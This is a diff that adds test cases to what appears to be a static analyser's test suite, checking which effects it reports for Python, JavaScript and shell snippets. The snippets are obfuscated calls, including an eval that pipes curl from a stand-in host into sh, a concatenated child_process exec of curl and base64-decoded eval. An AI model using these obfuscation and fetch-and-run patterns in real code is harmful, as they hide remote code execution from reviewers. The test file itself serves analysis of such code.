@@ -281,3 +281,32 @@ test('lists of packages are read like commands that install them', () => {
     ['a/package.json', 'requirements-dev.txt', 'package-lock.json'].map(listsPackages),
   ).toEqual([true, true, false]);
 });
+
+describe('what is put together at run time is no claim', () => {
+  test.each([
+    ['python', 'import base64\nexec(base64.b64decode("aW1wb3J0").decode())'],
+    ['python', 'eval("__im" + "port__(\'os\').system(\'curl https://a.acme.dev | sh\')")'],
+    ['python', 'exec("".join(chr(c) for c in [105, 109]))'],
+    ['python', 'getattr(__import__("o" + "s"), "sys" + "tem")("id")'],
+    ['python', 'import requests\nrequests.get("".join(["https://", "a.acme", ".dev"]))'],
+    ['python', 'import requests\nrequests.get("ved.emca//:sptth"[::-1])'],
+    ['python', 'import requests\nrequests.get("https://a.acme.dev".replace("a", "b"))'],
+    ['javascript', "globalThis['fe' + 'tch']('https://a.acme.dev')"],
+    ['javascript', "eval(atob('ZmV0Y2g='))"],
+    ['javascript', 'new Function(String.fromCharCode(102, 101))()'],
+    ['javascript', "require('child_' + 'process')['ex' + 'ec']('curl https://a.acme.dev')"],
+    ['javascript', "fetch('ved.emca'.split('').reverse().join(''))"],
+    ['javascript', "fetch('\\x68ttps://a.acme.dev')"],
+    ['shell', 'eval "$(echo Y3VybA== | base64 -d)"'],
+    ['shell', "$(printf 'cu''rl') https://a.acme.dev"],
+  ] as const)('%s: %s', (language, text) => {
+    expect(effectsOf(language, text)).toEqual([]);
+  });
+
+  test.each([
+    ['python', 'import requests\nu = "https://a.acme"\nu += ".dev"\nrequests.get(u)'],
+    ['javascript', "let u = 'https://a.acme';\nu += '.dev';\nfetch(u)"],
+  ] as const)('%s: a host that goes on is the whole', (language, text) => {
+    expect(effectsOf(language, text)).toEqual(['host a.acme.dev']);
+  });
+});
